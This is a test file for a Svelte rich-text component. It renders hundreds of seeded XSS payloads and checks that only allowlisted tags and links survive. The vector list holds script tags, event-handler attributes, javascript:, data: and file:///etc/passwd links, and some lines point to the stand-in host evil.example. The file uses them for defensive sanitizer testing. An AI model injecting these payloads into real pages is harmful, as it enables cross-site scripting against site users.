import { Parser } from 'htmlparser2';
import { render } from 'svelte/server';
import type { Component } from 'svelte';
import { describe, expect, test } from 'vitest';
import { faultsOfMarkdown } from '#domain/markdown-problems.ts';
import { plainText } from '#domain/markdown.ts';
import { frameIn } from '#components/reader/example-facts.ts';
import Stage from '#components/reader/Stage.svelte';
import { seeded } from '../../../tests/support/random.ts';
import RichText from './RichText.svelte';

/** What may come out, and with which attributes. Classes are the component’s own. */
const allowed: Record<string, readonly string[]> = {
  p: ['class', 'lang'],
  ul: ['class', 'lang'],
  ol: ['class', 'lang', 'start'],
  li: ['class'],
  blockquote: ['class', 'lang'],
  h3: ['class', 'lang'],
  span: ['class', 'lang'],
  small: ['class'],
  strong: [],
  em: [],
  br: [],
  a: ['href', 'rel'],
};

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{background:url(//evil.example)}</style>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?>',
  '<details open ontoggle=alert(1)>',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=a>',
  '"><b onmouseover=alert(1)>x',
  "' onfocus=alert(1) autofocus='",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT&#58;alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "t\\" onclick=alert(1)")',
  '[x](<https://a.example/" onclick=alert(1) x=">)',
  '![x](https://a.example/x.png"onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[![x](x)](javascript:alert(1))',
  '\u202egnp.exe',
  '\u0000<script>alert(1)</script>',
  '``<script>alert(1)</script>``',
  '    <script>alert(1)</script>',
  '{@html "<b>x</b>"}',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];
const surroundings = [
  'X',
  '**X**',
  '*X',
  '- X',
  '1. X\n   X',
  '> X',
  '### X',
  'a\n\nX\n\nb',
  '[X](https://a.example)',
  '`X`',
  '\\X',
  '| X |\n|---|\n| X |',
];

/** The same payloads at every run: each vector in its surroundings, cut, doubled and mixed. */
function payloads(count: number): string[] {
  const { one, whole } = seeded(20_240_601);
  const place = (text: string) => one(surroundings).replaceAll('X', () => text);
  const cut = (text: string) => text.slice(0, whole(1, text.length));
  return Array.from({ length: count }, (_, n) => {
    const vector = vectors[n % vectors.length] ?? '';
    const mixed = n < vectors.length ? vector : one([vector, cut(vector) + one(vectors), one(vectors) + vector, vector.repeat(2)]);
    return n < vectors.length ? mixed : place(place(mixed));
  });
}

function drawn(text: string): string {
  const reading = { missing: false, text, state: 'original', language: 'en' } as const;
  const props = { of: RichText as unknown as Component<Record<string, unknown>>, frame: frameIn('fi'), props: { reading, level: 3 } };
  return render(Stage, { props }).body;
}

/** Everything in HTML that is not on the list. */
function strayIn(html: string): string[] {
  const stray: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      const may = allowed[name];
      if (!may) stray.push(`<${name}>`);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!may?.includes(attribute)) stray.push(`${name} ${attribute}`);
        if (attribute === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) stray.push(`to ${value}`);
      }
    },
    oncomment: (comment) => /^[[\]!\-\d\w]{0,8}$/.test(comment) || stray.push(`comment ${comment}`),
    onprocessinginstruction: (name) => stray.push(name),
  });
  parser.write(html);
  parser.end();
  return stray;
}

describe('five hundred dangerous texts', () => {
  const texts = payloads(500);

  test('leave nothing outside the list', () => {
    const strays = texts.flatMap((text) => strayIn(drawn(text)).map((stray) => `${stray} from ${text}`));
    expect(strays).toEqual([]);
  });

  test('are found by the list: the same words as HTML would not pass', () => {
    expect(vectors.filter((vector) => strayIn(vector).length > 0).length).toBeGreaterThan(12);
  });

  test('are refused where they hold a tag, a comment or what stands for one, and have words that are read without harm', () => {
    const tagged = texts.filter((text) => /<(script|img|svg|iframe|!--|style|math|base|form|details)/i.test(text));
    expect(tagged.length).toBeGreaterThan(150);
    expect(tagged.filter((text) => faultsOfMarkdown(text).length === 0)).toEqual([]);
    for (const text of texts) expect(plainText(text)).toBeTypeOf('string');
  });
});
